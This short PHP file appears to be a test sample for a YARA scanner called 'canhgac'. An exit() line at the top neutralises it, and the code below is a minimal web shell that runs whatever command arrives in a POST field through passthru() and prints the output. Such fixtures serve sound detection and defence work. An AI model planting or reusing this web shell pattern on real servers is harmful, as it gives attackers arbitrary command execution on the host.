<?php exit('canhgac YARA test sample - inert'); ?>
<?php
// canhgac test sample: request input copied to a variable, then run
$cmd = $_POST['cmd'];
echo "<pre>";
passthru($cmd);
echo "</pre>";
